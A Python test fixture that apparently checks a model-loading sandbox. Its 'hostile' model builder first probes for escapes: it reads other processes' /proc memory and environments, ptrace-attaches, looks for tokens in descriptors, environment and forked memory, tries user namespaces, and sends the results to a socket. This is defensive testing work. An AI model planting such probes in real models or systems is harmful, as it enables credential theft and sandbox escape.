"""A model whose author wants more than a model: it tries, and tells what it got to a port of this machine.

Each attempt is a function of its own that returns what it got, or raises. Nothing here does harm that lasts:
signals are of the number 0, files are touched only where none should be writable.
"""

from __future__ import annotations

import ctypes
import fcntl
import json
import os
import resource
import socket
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

from torch import nn

PIECE = 1 << 20
SHIFTED = bytes((code + 1) % 256 for code in range(256))
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
F_SETOWN, F_SETSIG, FIOSETOWN = 8, 10, 0x8901
CLONE, CLONE3, CLONE_NEWUSER = {"x86_64": 56, "aarch64": 220}, 435, 0x10000000


def hostile(target: dict[str, Any], depth: int = 2) -> nn.Sequential:
    """`target`: what the test lets it know, which is more than a stranger would."""
    told = {name: attempt(lambda trial=trial: trial(target)) for name, trial in ATTEMPTS.items()}
    with socket.create_connection((target["host"], target["port"])) as listener:
        listener.sendall(json.dumps({"pid": os.getpid(), "uid": os.getuid(), "got": told}).encode() + b"\n")
    middle = [nn.Linear(8, 8) for _ in range(depth)]
    return nn.Sequential(nn.Embedding(256, 8), *middle, nn.Linear(8, 256, bias=False))


def attempt(trial: Callable[[], Any]) -> str:
    """What it got; empty: nothing."""
    try:
        got = trial()
    except (OSError, ValueError, KeyError):
        return ""
    return "" if got in (None, "", b"", [], {}) else repr(got)[:200]


def succeeds(call: Callable[..., object], *arguments: object) -> bool:
    try:
        call(*arguments)
    except OSError:
        return False
    return True


def others(target: dict[str, Any]) -> set[int]:
    """The processes that it was told of and its parent."""
    return {*target["pids"], os.getppid()} - {os.getpid()}


def secrets(target: dict[str, Any]) -> list[str]:
    found = []
    for path in target["files"]:
        try:
            if content := Path(path).read_bytes():  # what is covered by nothing reads as nothing
                found.append(f"{path}: {len(content)}")
        except OSError:
            continue
    return found


def written(target: dict[str, Any]) -> list[str]:
    name = f"hostile-{os.getpid()}"
    return [folder for folder in target["folders"] if succeeds((Path(folder) / name).write_text, "here")]


def processes(target: dict[str, Any]) -> list[str]:
    """Environments, memory, and open files of every process that it sees, and of those that it was told."""
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    found = []
    for pid in {*seen, *target["pids"]} - {os.getpid()}:
        for name in ("environ", "maps", "auxv"):
            try:
                if Path(f"/proc/{pid}/{name}").read_bytes():
                    found.append(f"{pid}/{name}")
            except OSError:
                continue
        reaches: dict[str, Callable[[str], Any]] = {
            "mem": opened,
            "root/etc": os.stat,
            "fd": files,
            "cwd": os.readlink,
        }
        for name, reach in reaches.items():
            if attempt(lambda path=f"/proc/{pid}/{name}", reach=reach: reach(path)):
                found.append(f"{pid}/{name}")
    return found


def opened(path: str) -> str:
    os.close(os.open(path, os.O_RDONLY))
    return path


def files(path: str) -> list[str]:
    """What a process has open, not only how much."""
    return [os.readlink(f"{path}/{name}") for name in os.listdir(path)]


def traced(target: dict[str, Any]) -> list[int]:
    libc = ctypes.CDLL(None, use_errno=True)
    found = []
    for pid in target["pids"]:
        if pid != os.getpid() and libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
            os.waitpid(pid, 0)
            libc.ptrace(PTRACE_DETACH, pid, None, None)
            found.append(pid)
    return found


def signalled(target: dict[str, Any]) -> list[int]:
    pids = {*others(target), 1} - {os.getpid()}
    return [pid for pid in pids if succeeds(os.kill, pid, 0)]


def limited(target: dict[str, Any]) -> list[int]:
    """Another's limits, with which one could end it."""
    return [pid for pid in others(target) if succeeds(resource.prlimit, pid, resource.RLIMIT_NOFILE)]


def awaited(target: dict[str, Any]) -> list[int]:
    """Another that gets a signal, of any kind, when something of ours is readable."""
    found = []
    reader, writer = os.pipe()
    for pid in others(target):
        asked = (
            succeeds(fcntl.fcntl, reader, F_SETOWN, pid),
            succeeds(fcntl.fcntl, reader, F_SETSIG, 0),
            succeeds(fcntl.ioctl, reader, FIOSETOWN, pid.to_bytes(4, "little")),
        )
        found += [pid] if any(asked) else []
    os.close(reader)
    os.close(writer)
    return found


def pinned(target: dict[str, Any]) -> list[int]:
    """Another's processors, from which one could take all but one."""

    def pin(pid: int) -> None:
        os.sched_setaffinity(pid, os.sched_getaffinity(pid))

    return [pid for pid in others(target) if succeeds(pin, pid)]


def sockets(target: dict[str, Any]) -> list[str]:
    """Every Unix socket that listens here, by its path or its abstract name."""
    found = []
    for name in target["sockets"]:
        try:
            with socket.socket(socket.AF_UNIX) as tried:
                tried.settimeout(1.0)
                tried.connect(name.replace("@", "\0", 1) if name.startswith("@") else name)
                found.append(name)
        except OSError:
            continue
    return found


def descriptors(target: dict[str, Any]) -> list[str]:
    """What was open before users' code: nothing but null, and its own log twice."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            where = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if where.startswith(("anon_inode:", "pipe:")) or int(name) <= 2 or f"/{os.getpid()}/" in where:
            continue
        if any(secret in where for secret in ("bus_token", "guard", "user_key", "fork-server", "incubator")):
            found.append(f"{name}: {where}")
    return found


def environment(target: dict[str, Any]) -> list[str]:
    return [
        name
        for name in ("DMSC_BUS_TOKEN", "DMSC_TOKEN", "DMSC_INCUBATOR", "SSH_AUTH_SOCK")
        if name in os.environ
    ]


def memory(target: dict[str, Any]) -> list[str]:
    """What its own memory keeps of those that it was forked from: the root key, others' credentials.

    The test gives them shifted by one, so that they are not there by being looked for.
    """
    found = []
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    for place, rights, *rest in regions:
        if not rights.startswith("rw") or (rest and rest[-1].startswith("/")):
            continue
        start, end = (int(part, 16) for part in place.split("-"))
        for at in range(start, end, PIECE):
            content = ctypes.string_at(at, min(PIECE + 256, end - at)).translate(SHIFTED)
            found += [needle[:8] for needle in target["needles"] if needle.encode() in content]
    return found


def shared(target: dict[str, Any]) -> list[str]:
    """What others have in the folders that every process of a machine shares."""
    found = []
    for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run"):
        try:
            found += [name for name in os.listdir(folder) if name in target["names"]]
        except OSError:
            continue
    return found


def mounted(target: dict[str, Any]) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(CLONE_NEWUSER) == 0:  # the way to every other namespace
        return "a namespace of users"
    child = libc.syscall(
        ctypes.c_long(CLONE[os.uname().machine]), ctypes.c_long(CLONE_NEWUSER | 17), 0, 0, 0, 0
    )
    if child == 0:
        os._exit(0)
    if child > 0:
        os.waitpid(child, 0)
        return "a child in a namespace of users"
    asked = ctypes.create_string_buffer(struct.pack("<11Q", CLONE_NEWUSER, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0))
    child = libc.syscall(ctypes.c_long(CLONE3), asked, ctypes.c_long(88))
    if child == 0:
        os._exit(0)
    if child > 0:
        os.waitpid(child, 0)
        return "a child in a namespace of users, by clone3"
    return ""


def powers(target: dict[str, Any]) -> list[str]:
    status = dict(
        line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line
    )
    lacking = [name for name in ("NoNewPrivs",) if status[name].strip() != "1"]
    lacking += [name for name in ("CapEff", "CapPrm", "CapAmb") if int(status[name], 16)]
    lacking += ["Seccomp"] if status["Seccomp"].strip() != "2" else []
    return lacking


ATTEMPTS: dict[str, Callable[[dict[str, Any]], Any]] = {
    trial.__name__: trial
    for trial in (
        secrets,
        written,
        processes,
        traced,
        signalled,
        limited,
        awaited,
        pinned,
        sockets,
        descriptors,
        environment,
        memory,
        shared,
        mounted,
        powers,
    )
}
